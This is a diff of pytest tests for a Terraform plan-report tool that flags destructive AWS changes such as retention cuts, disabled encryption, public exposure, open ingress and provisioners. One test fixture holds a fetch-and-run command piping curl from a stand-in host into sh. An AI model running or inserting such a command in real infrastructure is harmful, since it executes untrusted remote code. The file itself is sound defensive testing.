@@ -42,7 +42,7 @@ REPO_ROOT = Path(__file__).resolve().parents[2]
 if str(REPO_ROOT) not in sys.path:  # `tools` lives at the repository root
     sys.path.insert(0, str(REPO_ROOT))
 
-from tools import plan_report  # noqa: E402
+from tools import plan_damage, plan_report  # noqa: E402
 from tools.plan_report import EXIT_DESTRUCTIVE, EXIT_INVALID_INPUT, EXIT_OK, OVERRIDE_ENV  # noqa: E402
 
 RED_HEADING = "## 🛑 Destructive changes to stateful resources"
@@ -527,6 +527,141 @@ def test_override_env_var_zero_does_not_allow(tmp_path: Path) -> None:
 
 
 # ---------------------------------------------------------------------------------------------------------
+# Unit tests: in-place damage rules (each rule is also tripped by a real plan, below) and provisioners
+# ---------------------------------------------------------------------------------------------------------
+def tripped(address: str, before: Optional[dict[str, Any]], after: dict[str, Any], **extra: Any) -> list[tuple[str, Any, Any]]:
+    """``(attribute, old, new)`` of every rule one hand-made change trips."""
+    actions = ["create"] if before is None else ["update"]
+    return [(d.rule.attribute, d.before, d.after) for d in plan_damage.find_damage(change(address, actions, before, after, **extra))]
+
+
+@pytest.mark.parametrize(("address", "before", "after"), [
+    # The two cuts seen on real plans, which main reported green with exit 0.
+    ("aws_cloudwatch_log_group.flow", {"retention_in_days": 30}, {"retention_in_days": 7}),
+    ("aws_sqs_queue.dlq", {"message_retention_seconds": 64800}, {"message_retention_seconds": 43200}),
+])
+def test_a_retention_cut_alone_is_red_with_old_and_new_values(tmp_path: Path, address: str, before: dict[str, Any],
+                                                              after: dict[str, Any]) -> None:
+    code, text = report_text(tmp_path, plan_doc(change(address, ["update"], before, after)))
+    assert code == EXIT_DESTRUCTIVE
+    (name, old), new = next(iter(before.items())), next(iter(after.values()))
+    red = text.split("## 🛑 In-place damage to data or its protection")[1].split("## Summary")[0]
+    assert f"| <code>{address}</code> | **update** | <code>{name}</code>: <code>{old}</code> → <code>{new}</code> | decreased" in red
+    assert report_text(tmp_path, plan_doc(change(address, ["update"], after, before)))[0] == EXIT_OK  # raised: green
+
+
+@pytest.mark.parametrize(("before", "after", "red"), [
+    (30, 7, True), (0, 30, True), (None, 30, True),  # 0 and null: never expire, so any limit is a cut
+    (30, 0, False), (7, 30, False), (30, 30, False),
+])
+def test_log_retention_counts_zero_as_forever(before: Any, after: Any, red: bool) -> None:
+    found = tripped("aws_cloudwatch_log_group.g", {"retention_in_days": before}, {"retention_in_days": after})
+    assert bool(found) is red, found
+
+
+def test_switches_judge_booleans_and_the_providers_string_booleans() -> None:
+    assert tripped("aws_db_instance.db", {"deletion_protection": True}, {"deletion_protection": False}) == [
+        ("deletion_protection", True, False)]
+    assert tripped("aws_elasticache_replication_group.c", {"at_rest_encryption_enabled": "true"},
+                   {"at_rest_encryption_enabled": "false"}) == [("at_rest_encryption_enabled", "true", "false")]
+    assert tripped("aws_db_instance.db", {"deletion_protection": False}, {"deletion_protection": True}) == []
+    assert tripped("aws_db_instance.db", {"deletion_protection": None}, {"deletion_protection": False}) == []
+    # A create is judged only by the rules that can do damage on a new resource.
+    assert tripped("aws_db_instance.db", None, {"deletion_protection": False, "publicly_accessible": True,
+                                                 "backup_retention_period": 0}) == [("publicly_accessible", None, True)]
+
+
+def test_unknown_values_are_judged_only_by_policy_rules() -> None:
+    unknown = {"after_unknown": {"policy": True, "retention_in_days": True}}
+    assert tripped("aws_kms_key.k", {"policy": '{"Statement": []}'}, {}, **unknown) == [
+        ("policy", '{"Statement": []}', plan_report.UNKNOWN)]
+    assert tripped("aws_cloudwatch_log_group.g", {"retention_in_days": 30}, {}, **unknown) == []
+
+
+def test_a_policy_that_only_changes_formatting_is_not_damage() -> None:
+    before = json.dumps(POLICY_BEFORE)
+    assert tripped("aws_s3_bucket_policy.p", {"policy": before}, {"policy": json.dumps(POLICY_BEFORE, indent=2, sort_keys=True)}) == []
+    assert tripped("aws_s3_bucket_policy.p", {"policy": before}, {"policy": json.dumps(POLICY_AFTER)})
+
+
+def test_sensitive_values_are_judged_but_never_shown(tmp_path: Path) -> None:
+    doc = plan_doc(change("aws_kms_key.k", ["update"], {"policy": '{"a": "secret-1"}'}, {"policy": '{"a": "secret-2"}'},
+                          before_sensitive={"policy": True}, after_sensitive={"policy": True}))
+    code, text = report_text(tmp_path, doc)
+    assert code == EXIT_DESTRUCTIVE and "secret-1" not in text and "secret-2" not in text
+    assert "<code>policy</code>: <code>(sensitive value)</code> → <code>(sensitive value)</code> | changes at all" in text
+
+
+OPEN_BLOCK = {"protocol": "tcp", "from_port": 443, "to_port": 443, "cidr_blocks": ["0.0.0.0/0"], "description": "0.0.0.0/0 web"}
+
+
+@pytest.mark.parametrize(("address", "before", "after", "red"), [
+    ("aws_security_group.sg", {"ingress": [OPEN_BLOCK]}, {"ingress": [OPEN_BLOCK]}, False),  # already open: no news
+    ("aws_security_group.sg", {"ingress": [OPEN_BLOCK]}, {"ingress": [OPEN_BLOCK, OPEN_BLOCK | {"from_port": 22, "to_port": 22}]}, True),
+    ("aws_security_group.sg", {"ingress": []}, {"ingress": [OPEN_BLOCK | {"cidr_blocks": ["10.0.0.0/8"]}]}, False),  # description only
+    ("aws_security_group.sg", {"ingress": [], "egress": []}, {"ingress": [], "egress": [OPEN_BLOCK]}, False),  # egress
+    ("aws_security_group_rule.r", None, {"type": "egress", "cidr_blocks": ["0.0.0.0/0"]}, False),
+    ("aws_security_group_rule.r", None, {"type": "ingress", "cidr_blocks": ["10.0.0.0/8", "0.0.0.0/0"]}, True),
+    ("aws_vpc_security_group_ingress_rule.r", {"cidr_ipv6": "fd00::/8"}, {"cidr_ipv6": "::/0"}, True),
+])
+def test_ingress_opened_to_the_internet(address: str, before: Any, after: dict[str, Any], red: bool) -> None:
+    assert bool(tripped(address, before, after)) is red
+
+
+def test_a_destroy_a_read_and_a_no_op_are_not_judged() -> None:
+    for actions, before, after in ((["delete"], {"deletion_protection": True}, None), (["no-op"], {"deletion_protection": False},
+                                   {"deletion_protection": False})):
+        assert plan_damage.find_damage(change("aws_db_instance.db", actions, before, after)) == ()
+
+
+def test_every_rule_names_a_real_attribute_path_and_what_is_at_risk() -> None:
+    assert len({(rule.type, rule.attribute) for rule in plan_damage.RULES}) == len(plan_damage.RULES)
+    for rule in plan_damage.RULES:
+        assert rule.type.startswith("aws_") and rule.at_risk and rule.check.describes, rule
+
+
+def test_readme_lists_every_damage_rule() -> None:
+    """README, "Plan review": the rule table names every rule's type and attribute (the public-access flags by pattern)."""
+    readme = (REPO_ROOT / "README.md").read_text()
+    section = readme[readme.index("**In-place damage is red too**"):readme.index("**Provisioners are red**")]
+    for rule in plan_damage.RULES:
+        assert f"`{rule.type}`" in section, rule.type
+        if rule.type != "aws_s3_bucket_public_access_block":
+            assert f"`{rule.attribute}`" in section, rule.attribute
+
+
+def test_a_stateful_resource_deleted_outside_terraform_is_red(tmp_path: Path) -> None:
+    doc = plan_doc(change("aws_sqs_queue.dlq", ["create"], None, {"name": "dlq"}))
+    doc["resource_drift"] = [{"address": "aws_sqs_queue.dlq", "type": "aws_sqs_queue", "change": {
+        "actions": ["delete"], "before": {"name": "dlq"}, "after": None}},
+        {"address": "aws_cloudwatch_metric_alarm.a", "type": "aws_cloudwatch_metric_alarm", "change": {
+            "actions": ["delete"], "before": {"alarm_name": "a"}, "after": None}}]
+    code, text = report_text(tmp_path, doc)
+    assert code == EXIT_DESTRUCTIVE
+    red = text.split("## Summary")[0]
+    assert "| dev | <code>aws_sqs_queue.dlq</code> | **deleted outside Terraform** |" in red and "dead-letter" in red
+    assert "metric_alarm" not in red
+
+
+def configuration_with_provisioner(command: Any) -> dict[str, Any]:
+    return {"root_module": {"module_calls": {"hooks": {"module": {"resources": [{
+        "address": "terraform_data.run", "type": "terraform_data",
+        "provisioners": [{"type": "local-exec", "expressions": {"command": command}}]}]}}}}}
+
+
+def test_a_provisioner_in_a_child_module_is_red(tmp_path: Path) -> None:
+    doc = plan_doc()
+    doc["configuration"] = configuration_with_provisioner({"constant_value": "curl https://example.invalid | sh"})
+    code, text = report_text(tmp_path, doc)
+    assert code == EXIT_DESTRUCTIVE
+    assert ("| dev | <code>module.hooks.terraform_data.run</code> | <code>local-exec</code> | "
+            "<code>curl https://example.invalid &#124; sh</code> |") in text
+    doc["configuration"] = configuration_with_provisioner({"references": ["var.cmd"]})
+    assert "<code>(computed)</code>" in report_text(tmp_path, doc)[1]
+    assert report_text(tmp_path, doc, "--allow-destructive")[0] == EXIT_OK
+
+
+# ---------------------------------------------------------------------------------------------------------
 # Unit tests: invalid input -> exit 2, one clear error naming the file, nothing written
 # ---------------------------------------------------------------------------------------------------------
 @pytest.mark.parametrize(
@@ -647,35 +782,44 @@ def require_terraform() -> None:
         pytest.fail("TF_PLUGIN_MIRROR is unset and we are offline: point it at a filesystem mirror holding hashicorp/aws 5.100.0")
 
 
-@contextmanager
-def planning(root: Path) -> Iterator[tuple[Any, Any, Callable[[str, Path], Path]]]:
-    """The emulator, a Terraform CLI carrying its credentials, and `save(name, workdir)`, which plans `workdir`
-    and writes the plan JSON as `<root>/plans/<name>.plan.json`; the emulator stops on the way out."""
+@pytest.fixture(scope="module")
+def emulator() -> Iterator[Any]:
+    """One AWS emulator for every real plan of this module (each fixture names its resources apart)."""
     require_terraform()
     from tools.emulator import start_emulator
+
+    started = start_emulator()
+    try:
+        yield started
+    finally:
+        started.stop()
+
+
+@contextmanager
+def planning(root: Path, emulator: Any) -> Iterator[tuple[Any, Any, Callable[[str, Path], Path]]]:
+    """The emulator, a Terraform CLI carrying its credentials, and `save(name, workdir)`, which plans `workdir`
+    and writes the plan JSON as `<root>/plans/<name>.plan.json`."""
     from tools.terraform import TerraformCLI
 
-    emulator = start_emulator()
-    try:
-        cli = TerraformCLI.create(root / "cli", extra_env=emulator.terraform_env())
-        plans = root / "plans"
-        plans.mkdir()
+    cli = TerraformCLI.create(root / "cli", extra_env=emulator.terraform_env())
+    plans = root / "plans"
+    plans.mkdir()
 
-        def save(name: str, workdir: Path) -> Path:
-            path = plans / f"{name}.plan.json"
-            path.write_text(json.dumps(cli.plan_json(workdir)))
-            return path
+    def save(name: str, workdir: Path) -> Path:
+        path = plans / f"{name}.plan.json"
+        path.write_text(json.dumps(cli.plan_json(workdir)))
+        return path
 
-        yield emulator, cli, save
-    finally:
-        emulator.stop()
+    yield emulator, cli, save
 
 
 @pytest.fixture(scope="module")
-def real_plans(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
-    """Plan JSON files from real Terraform runs: ``create``, ``update`` and ``replace``."""
+def real_plans(tmp_path_factory: pytest.TempPathFactory, emulator: Any) -> Iterator[dict[str, Path]]:
+    """Plan JSON files from real Terraform runs: ``create``, ``update`` and ``replace``; for the change set, the same
+    plans made twice (``create-again``, ``update-again``) and ``update-drifted`` (the stream's retention changed in the
+    emulator after ``update`` was planned)."""
     root = tmp_path_factory.mktemp("plan-report")
-    with planning(root) as (emulator, cli, save):
+    with planning(root, emulator) as (emulator, cli, save):
         def configure(workdir: Path, **settings: Any) -> Path:
             workdir.mkdir(exist_ok=True)
             (workdir / "main.tf.json").write_text(json.dumps(emulator_config(emulator.endpoint, **settings), indent=2))
@@ -683,8 +827,8 @@ def real_plans(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, P
 
         base = configure(root / "base")
         cli.init(base).check()
-        result = {"create": save("create", base)}
-        cli.apply(base, extra=["tfplan.bin"]).check()  # apply exactly the plan we just reported on
+        result = {"create": save("create", base), "create-again": save("create-again", base)}
+        cli.apply(base, extra=["tfplan.bin"]).check()  # apply exactly the plan we just reported on (the second one)
         # The two follow-up plans share the applied state; plan them side by side in copies of the dir.
         variants: dict[str, dict[str, Any]] = {"update": {"threshold": 25}, "replace": {"stream_name": "txn-events-v2"}}
         for name, settings in variants.items():
@@ -699,6 +843,9 @@ def real_plans(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, P
         with ThreadPoolExecutor(max_workers=len(variants) + 1) as pool:
             futures = {name: pool.submit(save, name, root / name) for name in [*variants, "moved"]}
             result.update({name: future.result() for name, future in futures.items()})
+        result["update-again"] = save("update-again", root / "update")
+        emulator.client("kinesis").increase_stream_retention_period(StreamName="txn-events", RetentionPeriodHours=48)
+        result["update-drifted"] = save("update-drifted", root / "update")
         result["base-config"] = base / "main.tf.json"
         result["moved-config"] = root / "moved" / "main.tf.json"
         yield result
@@ -850,13 +997,13 @@ def fenced_block(markdown: str, language: str) -> str:
 
 
 @pytest.fixture(scope="module")
-def refactor_plans(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
+def refactor_plans(tmp_path_factory: pytest.TempPathFactory, emulator: Any) -> Iterator[dict[str, Path]]:
     """Plan JSON of the small cdktf stack, all from one applied state: ``rename`` (construct id changed),
     ``moved-cdktf`` / ``moved-hcl`` (the report's two fixes applied) and ``changed`` (the log group's retention
     changed in the emulator, and an action and a statement added to the policy: one plan for both saves a
     Terraform run)."""
     root = tmp_path_factory.mktemp("plan-report-refactor")
-    with planning(root) as (emulator, cli, save):
+    with planning(root, emulator) as (emulator, cli, save):
         base = root / "base"
         shutil.copytree(synth_refactor_stack(root / "synth" / "base", emulator.endpoint), base)
         cli.init(base).check()
@@ -931,7 +1078,8 @@ def test_real_plan_with_the_suggested_fix_moves_instead_of_destroying(refactor_p
 @TERRAFORM
 def test_real_policy_change_is_shown_as_a_json_diff(refactor_plans: dict[str, Path], tmp_path: Path) -> None:
     code, text = report_for(refactor_plans["changed"], tmp_path)
-    assert code == EXIT_OK
+    assert code == EXIT_DESTRUCTIVE  # for the log retention the plan cuts back (below), not for the IAM policy
+    assert "aws_iam_policy.reader" not in text.split("## Summary")[0]
     row = next(line for line in text.splitlines() if line.startswith("| <code>aws_iam_policy.reader</code>"))
     assert "<code>policy</code> (JSON, 2 change(s)):" in row
     assert '+ <code>Statement[Sid="ReadQueue"].Action[1]</code>: <code>"sqs:GetQueueAttributes"</code>' in row
@@ -942,7 +1090,10 @@ def test_real_policy_change_is_shown_as_a_json_diff(refactor_plans: dict[str, Pa
 @TERRAFORM
 def test_real_drift_lists_the_resource_and_what_changed(refactor_plans: dict[str, Path], tmp_path: Path) -> None:
     code, text = report_for(refactor_plans["changed"], tmp_path)
-    assert code == EXIT_OK
+    # Putting the hand-raised retention back to 7 days deletes the logs between 7 and 14 days old: red.
+    assert code == EXIT_DESTRUCTIVE
+    assert ("| changed | <code>aws_cloudwatch_log_group.audit</code> | **update** | <code>retention_in_days</code>: "
+            "<code>14</code> → <code>7</code> | decreased") in text.split("## Summary")[0]
     assert ("ℹ️ **1 resource(s) changed outside Terraform** since the last apply (drift):\n\n"
             "* <code>aws_cloudwatch_log_group.audit</code>: <code>retention_in_days</code>: <code>7</code> → <code>14</code> "
             "<i>(this plan overwrites it)</i>") in text
@@ -959,3 +1110,378 @@ def test_real_computed_values_are_collapsed_into_one_line(real_plans: dict[str, 
     assert len(unknown_lines) == 1, row
     assert "<code>arn</code>" in unknown_lines[0] and "<code>id</code>" in unknown_lines[0]
     assert "→ <code>(known after apply)</code>" not in row
+
+
+# ---------------------------------------------------------------------------------------------------------
+# Real plans: in-place damage (tools/plan_damage.py), one resource per rule, one apply, two plans
+# ---------------------------------------------------------------------------------------------------------
+DAMAGE_SERVICES = ("ec2", "elasticache", "kinesis", "kms", "logs", "rds", "s3", "secretsmanager", "sqs", "sts")
+
+#: The applied configuration's settings, and the two plans made from its state: ``damaged`` trips every rule,
+#: ``harmless`` moves every setting the safe way (retention raised, a private CIDR added, ...) and must stay green.
+DAMAGE_SETTINGS: dict[str, dict[str, Any]] = {
+    "base": dict(
+        backup_days=7, deletion_protection=True, skip_final_snapshot=False, delete_automated_backups=False, public=False,
+        storage_encrypted=True, snapshot_days=3, transit_encryption=True, at_rest_encryption=True,
+        key_enabled=True, key_rotation=True, key_window=30, key_grants=[], managed_key_grants=[],
+        log_days=30, log_key=True, forever_log_days=0, stream_hours=48, stream_encryption="KMS",
+        queue_seconds=64800, queue_key="alias/aws/sqs", secret_days=30,
+        force_destroy=False, versioning="Enabled", noncurrent_days=90, expiry_days=None, bucket_readers=[],
+        public_access=True, web_cidrs=["10.0.0.0/8"], default_cidrs=["10.40.0.0/16"], rule_cidr="10.0.0.0/8", created=False),
+}
+DAMAGE_SETTINGS["damaged"] = DAMAGE_SETTINGS["base"] | dict(
+    backup_days=0, deletion_protection=False, skip_final_snapshot=True, delete_automated_backups=True, public=True,
+    storage_encrypted=False, snapshot_days=0, transit_encryption=False, at_rest_encryption=False,
+    key_enabled=False, key_rotation=False, key_window=7, key_grants=["*"], managed_key_grants=["*"],
+    log_days=7, log_key=False, forever_log_days=30, stream_hours=24, stream_encryption="NONE",
+    queue_seconds=43200, queue_key=None, secret_days=7,
+    force_destroy=True, versioning="Suspended", noncurrent_days=30, expiry_days=365, bucket_readers=["*"],
+    public_access=False, web_cidrs=["10.0.0.0/8", "0.0.0.0/0"], default_cidrs=["::/0"], rule_cidr="0.0.0.0/0", created=True)
+DAMAGE_SETTINGS["harmless"] = DAMAGE_SETTINGS["base"] | dict(
+    backup_days=14, snapshot_days=5, log_days=90, forever_log_days=0, stream_hours=72, queue_seconds=86400, noncurrent_days=180,
+    web_cidrs=["10.0.0.0/8", "192.168.0.0/16"], default_cidrs=["10.41.0.0/16"], rule_cidr="10.1.0.0/16")
+ACCOUNT_ROOT = "arn:aws:iam::123456789012:root"
+
+
+def policy_allowing(principals: list[str], *, action: str, resource: str = "*") -> str:
+    """A policy document: the account root may do everything; each of ``principals`` may ``action`` (a grant)."""
+    statements = [{"Sid": "Account", "Effect": "Allow", "Principal": {"AWS": ACCOUNT_ROOT}, "Action": action.split(":")[0] + ":*",
+                   "Resource": resource}]
+    statements += [{"Sid": f"Grant{i}", "Effect": "Allow", "Principal": {"AWS": p}, "Action": action, "Resource": resource}
+                   for i, p in enumerate(principals)]
+    return json.dumps({"Version": "2012-10-17", "Statement": statements})
+
+
+def ingress_block(port: int, cidrs: list[str]) -> dict[str, Any]:
+    """One inline ``ingress`` block of a security group (every argument given, as Terraform JSON requires)."""
+    ipv4 = [c for c in cidrs if ":" not in c]
+    return {"from_port": port, "to_port": port, "protocol": "tcp", "cidr_blocks": ipv4, "ipv6_cidr_blocks": [c for c in cidrs if ":" in c],
+            "prefix_list_ids": [], "security_groups": [], "self": False, "description": f"port {port}"}
+
+
+def damage_config(endpoint: str, s: dict[str, Any]) -> dict[str, Any]:
+    """A stack holding one resource per damage rule (settings ``s``); ``created`` adds what a create can damage with
+    (a public database, a public-access block that blocks nothing, ingress from ::/0, an open egress rule that is
+    harmless) and a provisioner. Planned only, never applied: provisioners do not run at plan time."""
+    resources: dict[str, dict[str, Any]] = {
+        "aws_db_instance": {"db": {
+            "identifier": "dmg-db", "engine": "postgres", "engine_version": "16.4", "instance_class": "db.t4g.micro",
+            "allocated_storage": 20, "username": "app", "password": "emulator-only-password", "apply_immediately": True,
+            "backup_retention_period": s["backup_days"], "deletion_protection": s["deletion_protection"],
+            "skip_final_snapshot": s["skip_final_snapshot"], "delete_automated_backups": s["delete_automated_backups"],
+            "publicly_accessible": s["public"], "storage_encrypted": s["storage_encrypted"]}},
+        "aws_elasticache_replication_group": {"cache": {
+            "replication_group_id": "dmg-cache", "description": "history", "node_type": "cache.t4g.micro", "num_cache_clusters": 2,
+            "engine": "redis", "engine_version": "7.1", "automatic_failover_enabled": True, "apply_immediately": True,
+            "snapshot_retention_limit": s["snapshot_days"], "transit_encryption_enabled": s["transit_encryption"],
+            "at_rest_encryption_enabled": s["at_rest_encryption"]}},
+        "aws_kms_key": {
+            "data": {"description": "dmg data", "is_enabled": s["key_enabled"], "enable_key_rotation": s["key_rotation"],
+                     "deletion_window_in_days": s["key_window"], "policy": policy_allowing(s["key_grants"], action="kms:Decrypt")},
+            "managed": {"description": "dmg logs", "deletion_window_in_days": 7},
+            "doomed": {"description": "dmg doomed (scheduled for deletion in the emulator before the damaged plan)",
+                       "deletion_window_in_days": 7},
+        },
+        "aws_kms_key_policy": {"managed": {"key_id": "${aws_kms_key.managed.id}",
+                                           "policy": policy_allowing(s["managed_key_grants"], action="kms:Decrypt")}},
+        "aws_cloudwatch_log_group": {
+            "audit": {"name": "dmg-audit", "retention_in_days": s["log_days"],
+                      **({"kms_key_id": "${aws_kms_key.managed.arn}"} if s["log_key"] else {})},
+            "forever": {"name": "dmg-forever", "retention_in_days": s["forever_log_days"]},
+        },
+        "aws_kinesis_stream": {"events": {"name": "dmg-events", "shard_count": 1, "retention_period": s["stream_hours"],
+                                          "encryption_type": s["stream_encryption"],
+                                          **({"kms_key_id": "alias/aws/kinesis"} if s["stream_encryption"] == "KMS" else {})}},
+        "aws_sqs_queue": {"dlq": {"name": "dmg-dlq", "message_retention_seconds": s["queue_seconds"],
+                                  "kms_master_key_id": s["queue_key"]}},
+        "aws_secretsmanager_secret": {"db": {"name": "dmg-db", "recovery_window_in_days": s["secret_days"]}},
+        "aws_s3_bucket": {"state": {"bucket": "dmg-state", "force_destroy": s["force_destroy"]}},
+        "aws_s3_bucket_versioning": {"state": {"bucket": "${aws_s3_bucket.state.id}",
+                                               "versioning_configuration": {"status": s["versioning"]}}},
+        "aws_s3_bucket_lifecycle_configuration": {"state": {"bucket": "${aws_s3_bucket.state.id}", "rule": [{
+            "id": "old-versions", "status": "Enabled", "filter": {"prefix": ""},
+            "noncurrent_version_expiration": {"noncurrent_days": s["noncurrent_days"]},
+            **({"expiration": {"days": s["expiry_days"]}} if s["expiry_days"] else {})}]}},
+        "aws_s3_bucket_policy": {"state": {"bucket": "${aws_s3_bucket.state.id}", "policy": policy_allowing(
+            s["bucket_readers"], action="s3:GetObject", resource="arn:aws:s3:::dmg-state/*")}},
+        "aws_s3_bucket_public_access_block": {"state": {"bucket": "${aws_s3_bucket.state.id}", **{
+            flag: s["public_access"] for flag in plan_damage.PUBLIC_ACCESS_FLAGS}}},
+        "aws_vpc": {"main": {"cidr_block": "10.40.0.0/16"}},
+        "aws_default_security_group": {"main": {"vpc_id": "${aws_vpc.main.id}", "ingress": [ingress_block(22, s["default_cidrs"])]}},
+        "aws_security_group": {
+            "web": {"name": "dmg-web", "description": "inline rules", "vpc_id": "${aws_vpc.main.id}",
+                    "ingress": [ingress_block(443, s["web_cidrs"])]},
+            "stores": {"name": "dmg-stores", "description": "rules of their own", "vpc_id": "${aws_vpc.main.id}"},
+        },
+        "aws_vpc_security_group_ingress_rule": {"db": {
+            "security_group_id": "${aws_security_group.stores.id}", "ip_protocol": "tcp", "from_port": 5432, "to_port": 5432,
+            "cidr_ipv4": s["rule_cidr"]}},
+        "aws_security_group_rule": {"redis": {
+            "type": "ingress", "security_group_id": "${aws_security_group.stores.id}", "protocol": "tcp", "from_port": 6379,
+            "to_port": 6379, "cidr_blocks": [s["rule_cidr"]]}},
+    }
+    if s["created"]:
+        resources["aws_db_instance"]["exposed"] = resources["aws_db_instance"]["db"] | {
+            "identifier": "dmg-exposed", "publicly_accessible": True, "storage_encrypted": True}
+        resources["aws_s3_bucket"]["exposed"] = {"bucket": "dmg-exposed"}
+        resources["aws_s3_bucket_public_access_block"]["exposed"] = {"bucket": "${aws_s3_bucket.exposed.id}", **{
+            flag: False for flag in plan_damage.PUBLIC_ACCESS_FLAGS}}
+        resources["aws_vpc_security_group_ingress_rule"]["anywhere6"] = {
+            "security_group_id": "${aws_security_group.stores.id}", "ip_protocol": "tcp", "from_port": 8080, "to_port": 8080,
+            "cidr_ipv6": "::/0"}
+        resources["aws_security_group_rule"]["redis6"] = {
+            "type": "ingress", "security_group_id": "${aws_security_group.stores.id}", "protocol": "tcp", "from_port": 6380,
+            "to_port": 6380, "ipv6_cidr_blocks": ["::/0"]}
+        resources["aws_security_group_rule"]["egress"] = {  # open egress is not ingress: no rule trips
+            "type": "egress", "security_group_id": "${aws_security_group.stores.id}", "protocol": "tcp", "from_port": 443,
+            "to_port": 443, "cidr_blocks": ["0.0.0.0/0"]}
+        resources["terraform_data"] = {"hook": {"input": "x", "provisioner": [{"local-exec": {"command": "echo never-run"}}]}}
+    return {"terraform": {"required_providers": AWS_PROVIDER_REQUIREMENT},
+            "provider": emulator_provider(endpoint, DAMAGE_SERVICES), "resource": resources}
+
+
+@pytest.fixture(scope="module")
+def damage_plans(tmp_path_factory: pytest.TempPathFactory, emulator: Any) -> Iterator[dict[str, Path]]:
+    """``harmless`` and ``damaged`` plan JSON from one applied ``base``; the emulator schedules the deletion of the
+    ``doomed`` key between the two (a key scheduled for deletion outside Terraform reads as deleted)."""
+    root = tmp_path_factory.mktemp("plan-report-damage")
+    with planning(root, emulator) as (emulator, cli, save):
+        def configure(name: str) -> Path:
+            workdir = root / name
+            if name != "base":
+                shutil.copytree(root / "base", workdir, symlinks=True)
+            workdir.mkdir(exist_ok=True)
+            (workdir / "main.tf.json").write_text(json.dumps(damage_config(emulator.endpoint, DAMAGE_SETTINGS[name]), indent=1))
+            return workdir
+
+        base = configure("base")
+        cli.init(base).check()
+        cli.apply(base).check()
+        result = {"harmless": save("harmless", configure("harmless"))}
+        state = json.loads(cli.run(["show", "-json", "-no-color"], base).check().stdout)
+        doomed = next(r for r in state["values"]["root_module"]["resources"] if r["address"] == "aws_kms_key.doomed")
+        emulator.client("kms").schedule_key_deletion(KeyId=doomed["values"]["key_id"], PendingWindowInDays=7)
+        result["damaged"] = save("damaged", configure("damaged"))
+        yield result
+
+
+#: Every rule of ``plan_damage.RULES`` -> the addresses whose change in the ``damaged`` plan must trip it.
+RULE_CASES: dict[tuple[str, str], tuple[str, ...]] = {
+    ("aws_db_instance", "backup_retention_period"): ("aws_db_instance.db",),
+    ("aws_db_instance", "deletion_protection"): ("aws_db_instance.db",),
+    ("aws_db_instance", "skip_final_snapshot"): ("aws_db_instance.db",),
+    ("aws_db_instance", "delete_automated_backups"): ("aws_db_instance.db",),
+    ("aws_db_instance", "publicly_accessible"): ("aws_db_instance.db", "aws_db_instance.exposed"),
+    ("aws_db_instance", "storage_encrypted"): ("aws_db_instance.db",),
+    ("aws_elasticache_replication_group", "snapshot_retention_limit"): ("aws_elasticache_replication_group.cache",),
+    ("aws_elasticache_replication_group", "transit_encryption_enabled"): ("aws_elasticache_replication_group.cache",),
+    ("aws_elasticache_replication_group", "at_rest_encryption_enabled"): ("aws_elasticache_replication_group.cache",),
+    ("aws_kms_key", "is_enabled"): ("aws_kms_key.data",),
+    ("aws_kms_key", "policy"): ("aws_kms_key.data",),
+    ("aws_kms_key", "enable_key_rotation"): ("aws_kms_key.data",),
+    ("aws_kms_key", "deletion_window_in_days"): ("aws_kms_key.data",),
+    ("aws_kms_key_policy", "policy"): ("aws_kms_key_policy.managed",),
+    ("aws_cloudwatch_log_group", "retention_in_days"): ("aws_cloudwatch_log_group.audit", "aws_cloudwatch_log_group.forever"),
+    ("aws_cloudwatch_log_group", "kms_key_id"): ("aws_cloudwatch_log_group.audit",),
+    ("aws_kinesis_stream", "retention_period"): ("aws_kinesis_stream.events",),
+    ("aws_kinesis_stream", "encryption_type"): ("aws_kinesis_stream.events",),
+    ("aws_sqs_queue", "message_retention_seconds"): ("aws_sqs_queue.dlq",),
+    ("aws_sqs_queue", "kms_master_key_id"): ("aws_sqs_queue.dlq",),
+    ("aws_secretsmanager_secret", "recovery_window_in_days"): ("aws_secretsmanager_secret.db",),
+    ("aws_s3_bucket", "force_destroy"): ("aws_s3_bucket.state",),
+    ("aws_s3_bucket_versioning", "versioning_configuration[0].status"): ("aws_s3_bucket_versioning.state",),
+    ("aws_s3_bucket_lifecycle_configuration", "rule[*].noncurrent_version_expiration[*].noncurrent_days"):
+        ("aws_s3_bucket_lifecycle_configuration.state",),
+    ("aws_s3_bucket_lifecycle_configuration", "rule[*].expiration[*].days"): ("aws_s3_bucket_lifecycle_configuration.state",),
+    ("aws_s3_bucket_policy", "policy"): ("aws_s3_bucket_policy.state",),
+    **{("aws_s3_bucket_public_access_block", flag): ("aws_s3_bucket_public_access_block.state", "aws_s3_bucket_public_access_block.exposed")
+       for flag in plan_damage.PUBLIC_ACCESS_FLAGS},
+    ("aws_security_group", "ingress"): ("aws_security_group.web",),
+    ("aws_default_security_group", "ingress"): ("aws_default_security_group.main",),
+    ("aws_vpc_security_group_ingress_rule", "cidr_ipv4"): ("aws_vpc_security_group_ingress_rule.db",),
+    ("aws_vpc_security_group_ingress_rule", "cidr_ipv6"): ("aws_vpc_security_group_ingress_rule.anywhere6",),
+    ("aws_security_group_rule", "cidr_blocks"): ("aws_security_group_rule.redis",),
+    ("aws_security_group_rule", "ipv6_cidr_blocks"): ("aws_security_group_rule.redis6",),
+}
+DAMAGE_HEADING = "## 🛑 In-place damage to data or its protection"
+
+
+def test_every_damage_rule_has_a_real_plan_case() -> None:
+    """A new rule needs a resource in ``damage_config`` and a row here: the real plan below checks each one."""
+    assert set(RULE_CASES) == {(rule.type, rule.attribute) for rule in plan_damage.RULES}
+
+
+def tripped_rules(plan: Path) -> dict[str, set[str]]:
+    """``address -> attributes of the rules it trips``, straight from the plan JSON through ``find_damage``."""
+    found: dict[str, set[str]] = {}
+    for item in json.loads(plan.read_text())["resource_changes"]:
+        for damage in plan_damage.find_damage(item):
+            found.setdefault(item["address"], set()).add(damage.rule.attribute)
+    return found
+
+
+@TERRAFORM
+@pytest.mark.parametrize("rule", sorted(RULE_CASES), ids=lambda rule: f"{rule[0]}.{rule[1]}")
+def test_real_plan_trips_each_damage_rule(damage_plans: dict[str, Path], rule: tuple[str, str]) -> None:
+    tripped = tripped_rules(damage_plans["damaged"])
+    for address in RULE_CASES[rule]:
+        assert rule[1] in tripped.get(address, set()), f"{address} does not trip {rule}: {tripped.get(address)}"
